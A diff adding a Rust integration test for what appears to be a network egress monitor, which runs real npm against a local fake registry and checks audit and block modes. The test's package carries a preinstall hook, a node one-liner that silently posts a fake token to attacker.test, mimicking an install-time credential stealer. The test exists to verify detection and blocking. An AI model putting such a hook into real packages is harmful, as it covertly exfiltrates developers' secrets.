@@ -5,7 +5,9 @@
 //! as its baseline flags exactly the one new destination; the HTML page of that run,
 //! rendered by real headless Chromium, shows the step and the attacker's name, runs no
 //! script, logs no console message and makes no request; a hostile comm, executable and
-//! step name show as text. Needs root; never skipped.
+//! step name show as text. The same journey with the real client: `npm install` from a
+//! registry in the server namespace, whose package's preinstall hook posts a token to the
+//! attacker. Needs root; never skipped.
 
 mod common;
 
@@ -673,4 +675,205 @@ fn daemon_report_with_baseline_and_page() {
         "{html}"
     );
     assert!(dir.join("report.md").exists());
+}
+
+/// A package registry for real `npm`: Python's http.server in the server namespace serving
+/// a packument (`/NAME` redirects to `/NAME/`, whose index.html is the JSON) and tarballs.
+/// Killed when dropped.
+struct Registry(std::process::Child);
+
+impl Registry {
+    fn start(tb: &Testbed, addr: std::net::Ipv4Addr, root: &Path) -> Registry {
+        let child = tb
+            .server_cmd(
+                "python3",
+                [
+                    "-m",
+                    "http.server",
+                    "80",
+                    "--bind",
+                    &addr.to_string(),
+                    "--directory",
+                    &root.display().to_string(),
+                ],
+            )
+            .stdout(std::process::Stdio::null())
+            .stderr(std::process::Stdio::null())
+            .spawn()
+            .expect("python3 -m http.server");
+        // Ready when it answers (from the server namespace, where no ringfence runs).
+        for _ in 0..100 {
+            let st = tb
+                .server_cmd(
+                    "curl",
+                    ["-fsS", "-o", "/dev/null", &format!("http://{addr}/")],
+                )
+                .stderr(std::process::Stdio::null())
+                .status()
+                .unwrap();
+            if st.success() {
+                return Registry(child);
+            }
+            std::thread::sleep(Duration::from_millis(100));
+        }
+        panic!("the registry on {addr} never answered");
+    }
+}
+
+impl Drop for Registry {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+/// The seed's journey with the real client: `npm install` of a package whose preinstall
+/// hook (node, as real ones are) posts a token to attacker.test. In audit mode the page
+/// names the attacker in npm's step with the process that called it, and the attacker's
+/// server got the post; in block mode, with only the registry allowed, npm still installs
+/// the package and the attacker's server gets nothing.
+#[test]
+fn real_npm_preinstall_audit_page_then_block() {
+    let npm = testbed::require_tool("npm").expect("npm (scripts/ensure-deps test)");
+    let registry = link_v4(21);
+    let attacker = routed_v4(22);
+    let tb = testbed(
+        &[
+            DnsRecord::a("registry.npmjs.test", registry),
+            DnsRecord::a("attacker.test", attacker),
+        ],
+        &[sa(attacker, 80)],
+    );
+    let root = tb.workdir().join("registry");
+    let pkg = root.join("build/package");
+    std::fs::create_dir_all(&pkg).unwrap();
+    std::fs::create_dir_all(root.join("left-pad/-")).unwrap();
+    // Errors swallowed, as a real stealer's are: the install must look clean.
+    let hook = "node -e \"const r=require('http').request({host:'attacker.test',path:'/collect',\
+                method:'POST'},s=>s.resume());r.on('error',()=>{});r.end('token=npm_FAKE')\"";
+    let manifest = serde_json::json!({
+        "name": "left-pad", "version": "1.3.0", "main": "index.js",
+        "scripts": {"preinstall": hook},
+    });
+    std::fs::write(pkg.join("package.json"), manifest.to_string()).unwrap();
+    std::fs::write(pkg.join("index.js"), "module.exports = (s) => s;\n").unwrap();
+    let tgz = root.join("left-pad/-/left-pad-1.3.0.tgz");
+    let st = Command::new("tar")
+        .args(["-czf", &tgz.display().to_string(), "-C"])
+        .arg(root.join("build"))
+        .arg("package")
+        .status()
+        .unwrap();
+    assert!(st.success());
+    let sha1 = Command::new("sha1sum").arg(&tgz).output().unwrap();
+    let sha1 = String::from_utf8_lossy(&sha1.stdout)
+        .split_whitespace()
+        .next()
+        .unwrap()
+        .to_string();
+    let mut version = manifest.clone();
+    version["hasInstallScript"] = true.into();
+    version["dist"] = serde_json::json!({
+        "tarball": "http://registry.npmjs.test/left-pad/-/left-pad-1.3.0.tgz",
+        "shasum": sha1,
+    });
+    let packument = serde_json::json!({
+        "name": "left-pad",
+        "dist-tags": {"latest": "1.3.0"},
+        "versions": {"1.3.0": version},
+    });
+    std::fs::write(root.join("left-pad/index.html"), packument.to_string()).unwrap();
+    let _registry = Registry::start(&tb, registry, &root);
+
+    // `npm install left-pad` in a fresh project, under ringfence.
+    let npm_run = |tag: &str, opts: &[&str]| -> (Run, PathBuf) {
+        let project = tb.workdir().join(format!("app-{tag}"));
+        std::fs::create_dir_all(&project).unwrap();
+        std::fs::write(
+            project.join("package.json"),
+            "{\"name\":\"app\",\"version\":\"1.0.0\"}\n",
+        )
+        .unwrap();
+        let script = scratch(
+            &tb,
+            &format!("npm-{tag}.sh"),
+            &format!(
+                "set -e\ncd '{}'\nexport HOME='{}' npm_config_cache='{}/npm-cache-{tag}'\n\
+                 '{}' install --no-audit --no-fund --no-update-notifier --loglevel=error \
+                 --fetch-retries=0 --registry http://registry.npmjs.test/ left-pad\n",
+                project.display(),
+                tb.workdir().display(),
+                tb.workdir().display(),
+                npm.display()
+            ),
+        );
+        (run(&tb, tag, opts, &script), project)
+    };
+
+    // Audit: the page names the attacker, in npm's step, with the hook's process.
+    let page = tb.workdir().join("npm.html");
+    let hits = tb.http_hits(sa(attacker, 80));
+    let (audit, project) = npm_run(
+        "npm-audit",
+        &[
+            "--mode",
+            "audit",
+            "--allow",
+            "registry.npmjs.test:80",
+            "--step",
+            "npm install",
+            "--format",
+            "html",
+            "--report",
+            &page.display().to_string(),
+        ],
+    );
+    assert_eq!(audit.status.code(), Some(0), "{}", audit.stderr);
+    assert!(project.join("node_modules/left-pad/index.js").exists());
+    assert_eq!(
+        tb.http_hits(sa(attacker, 80)),
+        hits + 1,
+        "audit lets it out"
+    );
+    let a = audit.flows_named("attacker.test");
+    assert!(
+        !a.is_empty() && a.iter().all(|e| e["verdict"] == "audited" && e["pid"] != 0),
+        "{a:?}\n{}",
+        audit.stderr
+    );
+    let r = audit.flows_named("registry.npmjs.test");
+    assert!(
+        !r.is_empty() && r.iter().all(|e| e["verdict"] == "allowed"),
+        "{r:?}"
+    );
+    let html = std::fs::read_to_string(&page).unwrap();
+    assert!(html.contains("<code>attacker.test</code>"), "{html}");
+    assert!(html.contains("Step 1: npm install"), "{html}");
+
+    // The page from the real npm run, in Chromium: the attacker and the step are there.
+    let browser = Browser::start(&tb);
+    let seen = browser.render(&page, &["--dump-dom"]);
+    assert!(seen.dom.contains("attacker.test"), "{}", seen.dom);
+    assert!(seen.dom.contains("npm install"), "{}", seen.dom);
+    assert!(seen.console.is_empty() && seen.requests.is_empty());
+
+    // Block with only the registry: npm installs, the attacker gets nothing.
+    let hits = tb.http_hits(sa(attacker, 80));
+    let (block, project) = npm_run(
+        "npm-block",
+        &["--mode", "block", "--allow", "registry.npmjs.test:80"],
+    );
+    assert_eq!(block.status.code(), Some(0), "{}", block.stderr);
+    assert!(project.join("node_modules/left-pad/index.js").exists());
+    let a = block.flows_named("attacker.test");
+    assert!(
+        !a.is_empty() && a.iter().all(|e| e["verdict"] == "blocked"),
+        "{a:?}\n{}",
+        block.stderr
+    );
+    assert_eq!(
+        tb.http_hits(sa(attacker, 80)),
+        hits,
+        "nothing reached the attacker"
+    );
 }
